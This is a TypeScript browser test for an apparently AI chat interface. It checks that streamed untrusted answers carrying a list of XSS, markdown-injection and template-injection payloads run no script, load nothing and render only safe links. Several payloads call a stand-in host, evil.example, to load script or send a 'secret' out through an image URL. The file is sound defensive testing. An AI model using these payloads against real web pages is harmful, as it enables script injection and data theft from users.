import { sharedBrowser } from "@parley/testing/site/browser.ts"
import { type SiteServer, startSiteServer } from "@parley/testing/site/site-server.ts"
import fc from "fast-check"
import type { Browser } from "playwright-core"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { ask, eventually, openPage } from "../../support/pages.ts"

// Each calls `hit` if it runs, or asks another host if it loads.
const payloads = [
  "<script>hit()</script>",
  "<img src=x onerror=hit()>",
  "<svg/onload=hit()>",
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "<details open ontoggle=hit()>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
  '"><script src=https://evil.example/x.js></script>',
  "<style>@import 'https://evil.example/x.css'</style>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "![x](https://evil.example/steal.png?q=secret)",
  "![x](data:image/svg+xml,<svg/onload=hit()>)",
  "[x](javascript:hit())",
  "[x](java\nscript:hit())",
  "[x](&#106;avascript:hit())",
  "<javascript:hit()>",
  "[x]: javascript:hit()\n\n[x]",
  '[x](https://example.com "onmouseover=hit()")',
  "```<script>hit()</script>\n</code></pre><script>hit()</script>\n```",
  "`</code><img src=x onerror=hit()>`",
  "| <img src=x onerror=hit()> |\n| --- |\n| [x](javascript:hit()) |",
  "{{constructor.constructor('hit()')()}} __proto__ constructor",
]

let browser: Browser
let site: SiteServer
beforeAll(async () => {
  site = await startSiteServer()
  browser = await sharedBrowser()
})
afterAll(async () => {
  await site?.stop()
})

describe("an untrusted answer", () => {
  test("runs no script and loads nothing, however it is split into deltas", async () => {
    const answer = fc.sample(fc.shuffledSubarray(payloads, { minLength: payloads.length }), 1)[0]?.join("\n\n") ?? ""
    const sizes = fc.sample(fc.integer({ min: 1, max: 12 }), answer.length)
    const api = site.reset()
    api.answer = async function* () {
      for (let at = 0, i = 0; at < answer.length; at += sizes[i++] ?? 1) yield answer.slice(at, at + (sizes[i] ?? 1))
      yield "\n\nThe end of it."
    }
    const { page, complaints, close } = await openPage(browser, site.url)
    let hits = 0
    await page.exposeFunction("hit", () => hits++)
    await ask(page, "Attack")
    await page.getByRole("button", { name: "Copy answer" }).waitFor()
    const targets = await page
      .locator(".markdown a")
      .evaluateAll((links) => links.map((link) => [(link as HTMLAnchorElement).protocol, (link as HTMLAnchorElement).rel]))
    expect(new Set(targets.map(String))).toEqual(new Set(["https:,noopener noreferrer nofollow"]))
    for (const link of await page.locator(".markdown").getByText("x", { exact: true }).all()) await link.hover()
    await eventually(() =>
      page.locator(".markdown :is(img, script, iframe, svg:not(.icon), style, base, meta, form, details)").count(),
    ).toBe(0)
    expect({ hits, complaints }).toEqual({ hits: 0, complaints: [] })
    await close()
  })
})
